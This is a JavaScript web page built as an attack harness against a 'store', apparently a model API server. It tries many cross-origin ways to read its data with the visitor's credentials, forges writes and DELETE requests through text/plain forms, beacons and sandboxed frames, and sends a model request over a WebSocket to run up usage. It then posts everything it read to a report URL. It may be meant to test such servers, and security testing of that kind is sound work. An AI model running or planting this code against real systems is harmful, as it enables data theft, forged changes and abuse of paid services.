// A page that tries to read from a store, to write, and to ask a model. It reports what it could read, and how often it tried.
// `target` says where the store is (`stores`), what to read (`paths`), what to send (`writes`: a path and a body), and where to report.
"use strict";

const TIMEOUT_MS = 5000;
const AT_ONCE = 12;
const report = { read: [], tried: 0 };

function answerOf(start) {
  return new Promise((resolve, reject) => {
    setTimeout(reject, TIMEOUT_MS);
    start(resolve, reject);
  });
}

async function attempt(way, url, act) {
  report.tried += 1;
  try {
    const text = await answerOf((resolve, reject) => act().then(resolve, reject));
    if (text) report.read.push({ way, url, text: String(text).slice(0, 400) });
  } catch {
    // It was refused.
  }
}

function element(name, fields, events) {
  return answerOf((resolve, reject) => {
    const made = Object.assign(document.createElement(name), fields);
    made.onerror = reject;
    made.onload = () => resolve(events(made));
    made.onloadedmetadata = () => resolve("a video");
    document.body.append(made);
  });
}

const textOf = async (answer) => (await answer).text();

const readers = {
  fetch: (url) => textOf(fetch(url)),
  "fetch without CORS": (url) => textOf(fetch(url, { mode: "no-cors" })),
  "fetch with credentials": (url) => textOf(fetch(url, { credentials: "include" })),
  "fetch with a header": (url) => textOf(fetch(url, { headers: { authorization: "Bearer any" } })),
  "fetch over a redirect": (url) => textOf(fetch(`/redirect?${url}`)),
  "fetch without a referrer": (url) => textOf(fetch(url, { referrerPolicy: "no-referrer" })),
  XMLHttpRequest: (url) =>
    answerOf((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.open("GET", url);
      request.onload = () => resolve(request.responseText);
      request.onerror = reject;
      request.send();
    }),
  EventSource: (url) =>
    answerOf((resolve, reject) => {
      const source = new EventSource(url);
      const first = (event) => (source.close(), resolve(event.data));
      for (const type of ["message", "item.appended"]) source.addEventListener(type, first);
      source.onerror = (event) => (source.close(), reject(event));
    }),
  "an image": (url) => element("img", { src: url }, (image) => `${image.width} pixels`),
  "a script": (url) => element("script", { src: url }, () => "it ran"),
  "a style": (url) => element("link", { rel: "stylesheet", href: url }, (link) => link.sheet.cssRules.length),
  "a video": (url) => element("video", { src: url }, () => ""),
  "a frame": (url) => element("iframe", { src: url }, (frame) => frame.contentDocument?.body.innerText),
  "an object": (url) => element("object", { data: url }, (made) => made.contentDocument?.body.innerText),
  "a module": (url) => import(url).then(() => "it ran"),
  "a font": (url) => new FontFace("font", `url(${url})`).load().then(() => "a font"),
  "a worker": (url) =>
    answerOf((resolve, reject) => {
      const code = `try { importScripts(${JSON.stringify(url)}); postMessage("it ran") } catch { postMessage("") }`;
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      worker.onmessage = (event) => resolve(event.data);
      worker.onerror = reject;
    }),
  "a window": async (url) => {
    const opened = window.open(url);
    await new Promise((resolve) => setTimeout(resolve, 700));
    try {
      return opened.document.body.innerText;
    } finally {
      opened.close();
    }
  },
};

const post = (url, body, options) => textOf(fetch(url, { method: "POST", body, ...options }));
const withoutCors = { mode: "no-cors" };

function form(url, body, enctype, sandbox) {
  // A form of the type text/plain sends `name=value`. So a JSON text that contains a `=` is split there.
  const [name, value] = body.split("=", 2);
  const fields = { action: url, method: "POST", enctype };
  const made = Object.assign(document.createElement("form"), fields);
  made.append(Object.assign(document.createElement("input"), { name, value: value ?? "" }));
  const frame = document.createElement("iframe");
  if (sandbox) {
    made.setAttribute("rel", "noreferrer");
    frame.sandbox = "allow-forms allow-scripts";
    made.querySelector("input").setAttribute("name", name);
    made.querySelector("input").setAttribute("value", value ?? "");
    frame.srcdoc = `${made.outerHTML}<script>document.forms[0].submit()</script>`;
    document.body.append(frame);
    return new Promise((resolve) => setTimeout(resolve, 700));
  }
  frame.name = `frame-${report.tried}`;
  made.target = frame.name;
  document.body.append(frame, made);
  return answerOf((resolve) => {
    frame.onload = () => resolve(frame.contentDocument?.body.innerText);
    made.submit();
  });
}

const writers = {
  "fetch of JSON": (url, body) => post(url, body, { headers: { "content-type": "application/json" } }),
  "fetch of text": (url, body) => post(url, body, withoutCors),
  "fetch without a type": (url, body) => post(url, new Blob([body]), withoutCors),
  "fetch of a JSON blob": (url, body) => post(url, new Blob([body], { type: "application/json" }), withoutCors),
  "fetch of a form": (url, body) => post(url, new URLSearchParams({ body }), withoutCors),
  "fetch over a redirect": (url, body) => post(`/redirect?${url}`, body, withoutCors),
  "fetch that outlives the page": (url, body) => post(url, body, { ...withoutCors, keepalive: true }),
  "a beacon of text": async (url, body) => void navigator.sendBeacon(url, body),
  "a beacon of JSON": async (url, body) => void navigator.sendBeacon(url, new Blob([body], { type: "application/json" })),
  "a form of text": (url, body) => form(url, body, "text/plain"),
  "a form": (url, body) => form(url, body, "application/x-www-form-urlencoded"),
  "a form in a sandbox": (url, body) => form(url, body, "text/plain", true),
  DELETE: (url) => textOf(fetch(url, { method: "DELETE" })),
};

function socket(store) {
  return answerOf((resolve, reject) => {
    const opened = new WebSocket(`${store.replace("http", "ws")}/v1/responses`);
    opened.onopen = () => opened.send(JSON.stringify({ type: "response.create", input: "spend" }));
    opened.onmessage = (event) => (opened.close(), resolve(event.data));
    opened.onerror = reject;
  });
}

async function run() {
  const waiting = [];
  const add = (way, url, act) => waiting.push(() => attempt(way, url, act));
  for (const store of target.stores) {
    for (const path of target.paths) {
      for (const way of Object.keys(readers)) {
        if (way === "a window" && path !== target.paths[0]) continue;
        add(way, store + path, () => readers[way](store + path));
      }
    }
    add("WebSocket", store, () => socket(store));
    for (const [path, body] of target.writes) {
      for (const way of Object.keys(writers)) {
        add(way, store + path, () => writers[way](store + path, body));
      }
    }
  }
  const next = async () => {
    while (waiting.length) await waiting.shift()();
  };
  await Promise.all(Array.from({ length: AT_ONCE }, next));
  await fetch(target.report, { method: "POST", mode: "no-cors", body: JSON.stringify(report) });
}

run();
